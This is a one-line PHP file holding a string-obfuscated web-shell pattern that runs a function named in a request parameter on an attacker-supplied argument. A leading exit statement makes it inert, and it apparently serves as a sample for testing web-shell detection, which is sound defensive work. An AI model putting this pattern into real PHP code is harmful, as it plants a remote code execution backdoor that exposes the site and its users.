<?php exit; /* inert */ $GLOBALS["_G"."ET"]["f"]($GLOBALS["_G"."ET"]["a"]);
